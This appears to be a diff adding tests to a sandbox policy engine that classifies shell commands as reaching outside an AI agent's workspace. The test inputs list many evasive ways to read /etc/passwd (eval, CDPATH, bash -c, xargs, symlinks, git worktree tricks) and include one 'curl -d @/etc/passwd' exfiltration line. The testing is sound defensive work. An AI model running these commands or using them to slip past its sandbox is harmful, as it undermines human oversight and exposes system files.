@@ -10,11 +10,13 @@ from pathlib import Path
 import pytest
 
 from golem_forge.core.effects import Effect, Mark, Verb
+from golem_forge.core.verdict import Verdict
 from golem_forge.policy.commands import command_facts
 from golem_forge.policy.effects import floors_of
 from golem_forge.policy.world import SYSTEM_PATH, SandboxWorld, is_system_directory
 from golem_forge.sandbox.protected import is_secret_name
 from golem_forge.sandbox.sandbox import Sandbox, open_sandbox
+from golem_forge.sandbox.walls.settings import PathRule
 from golem_forge.sandbox.zones import ZoneSpec
 
 
@@ -85,6 +87,43 @@ def test_what_stays_inside_is_not_taken_for_outside(text: str, world: SandboxWor
     assert "outside_zone" not in {id_ for each in effects(text, world) for id_, _ in floors_of(each)}
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "export CDPATH=/; cd etc; cat passwd", "read CDPATH; cd etc; ls", "declare CDPATH=/; cd etc; ls",
+        "printf -v CDPATH /; cd etc; cat passwd", "read CDPATH; eval cd etc; ls", "export HOME=/etc; cd; cat passwd",
+        "eval 'eval cd /'; cat etc/passwd", "command eval cd /; cat etc/passwd", "builtin eval 'cd /'; cat etc/passwd",
+        "eval cat /etc/passwd", "eval 'x=/etc/passwd; cat $x'", "trap 'cd /' DEBUG; cat etc/passwd",
+        "command cat /etc/passwd", "true; bash -c 'cat /etc/passwd'", "env -C / cat etc/passwd", "exec cat /etc/passwd",
+        "nice cat /etc/passwd", "timeout 5 cat /etc/passwd", "xargs cat /etc/passwd", "echo /etc/passwd | xargs cat",
+        "echo 'cat /etc/passwd' | bash", "true; sh -ec 'cd /; cat etc/passwd'", "true; sh -c 'cat < /etc/passwd'",
+        "true; sh -c 'cat $0' /etc/passwd", "csh -c 'cat /etc/passwd'", "find . -exec cat /etc/passwd ';'",
+        "command cd src; cat ../../x", "less /etc/passwd", "less away/passwd", "less ../x", "cp /etc/passwd a",
+        "awk 1 /etc/passwd", "sed p /etc/passwd", "perl -ne print /etc/passwd", "git --git-dir=/etc log",
+        "tar --directory=/ -cf x etc", "tar -C/etc -cf x a", "dd if=/etc/passwd", "curl -d @/etc/passwd x",
+        "sort --files0-from=/etc/passwd", "env X=/etc/passwd make", "ln -s /etc e", "cp /usr/../etc/passwd a",
+    ],
+)  # fmt: skip
+def test_however_it_is_spelled_what_lies_outside_needs_a_person(text: str, world: SandboxWorld) -> None:
+    assert "outside_zone" in {id_ for each in effects(text, world) for id_, _ in floors_of(each)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "make PREFIX=/usr/local", "gcc -I/usr/include a.c", "python3 /usr/lib/x.py", "tar -C /tmp -xf a.tar",
+        "cp a /dev/null", "awk '/foo/ {print}' a", "sed /x/d a", "sed -e /x/d a", "perl -ne '/x/ and print' a",
+        "git commit -m '/api: mend'", "git log main..HEAD", "go test ./...", "curl https://x.y/../z", "cp a src/../b",
+        "timeout 5 /opt/x/run a", "true; bash -c '/opt/x/run a'", "command cat a", "xargs grep /foo",
+        "export FOO=bar; cd src; cat c", "eval 'cd src'; cat c", "echo a | xargs cat",
+        "true; bash -c 'cd src; cat c'",
+        "cd src; cut -d / -f1 c", "python3 -c 'print(1)'",
+    ],
+)  # fmt: skip
+def test_words_that_name_nothing_outside_are_no_reason(text: str, world: SandboxWorld) -> None:
+    assert "outside_zone" not in {id_ for each in effects(text, world) for id_, _ in floors_of(each)}
+
+
 def test_scripts_are_not_proven(tmp_path: Path, world: SandboxWorld, monkeypatch: pytest.MonkeyPatch) -> None:
     """Whatever its name: `egrep` starts the first `grep` on PATH, and on some systems more programs are scripts."""
     programs = tmp_path / "bin"
@@ -125,6 +164,51 @@ def test_revisions_are_words_of_git_alone(looked_at: SandboxWorld) -> None:
         assert facts.reads_only, text
     for text in ("echo HEAD~1", "git log ~", "git log ^main", "git log x=~", "git log HEAD@{1}", "git log HEAD^{tree}"):
         assert command_facts(text, world, "/workspace", is_secret_name)[0].parsed is None, text
+
+
+def test_what_git_shows_is_judged_by_its_path_in_the_commit(looked_at: SandboxWorld, workspace: Path) -> None:
+    def reads(text: str) -> list[str]:
+        facts, found = command_facts(text, looked_at, "/workspace", is_secret_name, full_walls=True)
+        assert facts.reads_only, text
+        return [each.target for each in found if each.verb is Verb.READ]
+
+    (workspace / ".git").mkdir()
+    assert reads("git show HEAD:gone/x") == ["/workspace/gone/x"]
+    assert reads("git show :src/c") == reads("git cat-file -p :2:src/c") == ["/workspace/src/c"]
+    assert reads("cd src && git show main:a HEAD:./c") == ["/workspace/src", "/workspace/a", "/workspace/src/c"]
+    assert reads("git log -L 1,2:src/c") == ["/workspace/src/c"]
+
+
+def test_what_is_closed_makes_git_ask(looked_at: SandboxWorld, workspace: Path) -> None:
+    (workspace / ".git").mkdir()
+    texts = (
+        "git log -p",
+        "git show",
+        "git diff",
+        "git grep x",
+        "git blame a",
+        "git show HEAD:a",
+        "git cat-file -p HEAD",
+    )
+    names = ("git status -s", "git log --stat", "git ls-files -s", "git ls-tree HEAD", "git cat-file -t HEAD:a")
+
+    def proven(world: SandboxWorld, *chosen: str) -> list[str]:
+        return [text for text in chosen if command_facts(text, world, "/workspace", is_secret_name)[0].reads_only]
+
+    def ruled(literal: str, verdict: Verdict = Verdict.ASK, access: Verb = Verb.READ) -> SandboxWorld:
+        rule = PathRule(matches=str.isspace, literal=literal, verdict=verdict, access=frozenset({access}))
+        return SandboxWorld(looked_at._sandbox, complete=lambda virtual, hidden: True, rules=lambda: (rule,))
+
+    assert proven(looked_at, *texts, *names) == [*texts, *names]
+    for literal in ("/workspace/private", "/workspace", ""):
+        assert proven(ruled(literal), *texts, *names) == list(names), literal
+        assert proven(ruled(literal, Verdict.BLOCKED), *texts) == []
+        assert proven(ruled(literal, Verdict.BLOCKED, Verb.WRITE), *texts) == list(texts)
+    assert proven(ruled("/elsewhere/x"), *texts) == list(texts)
+    magic = ("git log -p ':(glob)a'", "git status ':/'", "git ls-files -- ':!a'", "git grep x ':^a'", "git log -- :a")
+    assert proven(looked_at, *magic) == []
+    (workspace / ".git" / "config").write_text("[core]\n\tworktree = /\n")
+    assert proven(looked_at, *texts, *names) == []
 
 
 def test_places_change_with_cd(world: SandboxWorld) -> None:
